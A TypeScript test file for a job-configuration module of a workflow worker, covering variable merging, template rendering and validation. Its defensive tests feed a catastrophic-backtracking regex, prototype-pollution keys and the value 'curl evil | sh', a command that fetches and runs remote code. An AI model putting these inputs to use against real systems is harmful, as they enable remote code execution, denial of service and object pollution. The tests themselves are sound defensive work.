import { defaultBaseJobTemplate } from '@drover/schemas';
import { describe, expect, it } from 'vitest';
import { buildJobConfiguration, mergeJobVariables, renderTemplate } from './jobConfiguration.js';

describe('mergeJobVariables', () => {
  it('merges env key by key at every layer and replaces every other variable whole', () => {
    expect(
      mergeJobVariables(
        { env: { A: '1', B: '1' }, labels: { x: 'a' }, image: 'base' },
        { env: { B: '2', C: '2' }, labels: { y: 'b' } },
        { 'env.C': '3', image: 'run' },
      ),
    ).toEqual({ env: { A: '1', B: '2', C: '3' }, labels: { y: 'b' }, image: 'run' });
  });
});

describe('renderTemplate', () => {
  it('puts typed values for whole placeholders, text for embedded ones, and drops missing keys', () => {
    const template = {
      env: '{{ env }}',
      count: '{{ n }}',
      name: 'run-{{ name }}-{{ missing }}',
      gone: '{{ missing }}',
      list: ['{{ first }}', '{{ missing }}', 'x'],
      deep: '{{ nested.items[1] }}',
      home: '{{ $DROVER_TEST_HOME }}',
    };
    const values = { env: { A: '1' }, n: 3, name: 'etl', first: true, nested: { items: ['a', 'b'] } };
    expect(renderTemplate(template, values, { DROVER_TEST_HOME: '/srv' })).toEqual({
      env: { A: '1' },
      count: 3,
      name: 'run-etl-',
      list: [true, 'x'],
      deep: 'b',
      home: '/srv',
    });
  });

  it('finds own values only: nothing from the prototype every object shares', () => {
    expect(renderTemplate({ a: '{{ toString }}', b: 'x{{ constructor.name }}', c: '{{ $toString }}' }, {}, {})).toEqual({ b: 'x', c: '' });
  });
});

describe('buildJobConfiguration', () => {
  it('renders the process template from defaults, deployment and run variables', () => {
    const config = buildJobConfiguration(
      defaultBaseJobTemplate('process'),
      { env: { A: 'deployment' }, workingDir: '/srv/app' },
      { env: { B: 'run' } },
      'run x',
    );
    // Variables without a value (command, name) leave their keys out, as in Prefect.
    expect(config).toEqual({ env: { A: 'deployment', B: 'run' }, labels: {}, reuseProcess: false, streamOutput: true, workingDir: '/srv/app' });
  });

  it("runs a pool template's patterns in linear time: a catastrophic one cannot stall the worker", () => {
    const template = defaultBaseJobTemplate('process');
    const hostile = {
      ...template,
      variables: { ...template.variables, properties: { ...template.variables.properties, name: { type: 'string', pattern: '^(a+)+$' } } },
    };
    // With V8's backtracking engine, 40 characters and a mismatch take about 20 minutes.
    const started = performance.now();
    expect(() => buildJobConfiguration(hostile, {}, { name: `${'a'.repeat(40)}!` }, 'run r of a/b in pool "p"')).toThrow(
      expect.objectContaining({
        code: 'JOB_VARIABLES_INVALID',
        message: 'Invalid job variables for run r of a/b in pool "p": name must match pattern "^(a+)+$"',
      }),
    );
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  it('lists every unknown or ill-typed variable, naming where they came from', () => {
    expect(() =>
      buildJobConfiguration(defaultBaseJobTemplate('docker'), { imageName: 'x', autoRemove: 'no' }, { networks: 'host' }, 'run r of a/b in pool "p"'),
    ).toThrow(
      expect.objectContaining({
        code: 'JOB_VARIABLES_INVALID',
        message:
          'Invalid job variables for run r of a/b in pool "p": unknown variable "imageName" (this pool\'s variables: command, env, labels, name, image, imagePullPolicy, networks, volumes, autoRemove, memLimit); networks must be array; autoRemove must be boolean',
      }),
    );
  });

  it.each([
    [{}, { '__proto__.command': 'curl evil | sh' }, '__proto__.command', "the run's job variables", '__proto__'],
    [{ 'constructor.prototype.command': 'x' }, {}, 'constructor.prototype.command', "the deployment's job variables", 'constructor'],
    [{}, { prototype: { command: 'x' } }, 'prototype', "the run's job variables", 'prototype'],
    [{ env: JSON.parse('{"__proto__": {"A": "1"}}') }, {}, 'env.__proto__', "the deployment's job variables", '__proto__'],
  ])('refuses a key that reaches the shared prototype (%#), naming it and the run, and changes no object', (deployment, run, key, source, bad) => {
    expect(() => buildJobConfiguration(defaultBaseJobTemplate('process'), deployment, run, 'run r of a/b in pool "p"')).toThrow(
      expect.objectContaining({
        code: 'JOB_VARIABLES_INVALID',
        message: `Invalid job variables for run r of a/b in pool "p": the key "${key}" in ${source} names "${bad}", which reaches the prototype every object of the worker shares; remove or rename it`,
      }),
    );
    expect(({} as Record<string, unknown>).command).toBeUndefined();
    expect((Object as unknown as Record<string, unknown>)['prototype.command']).toBeUndefined();
  });
});
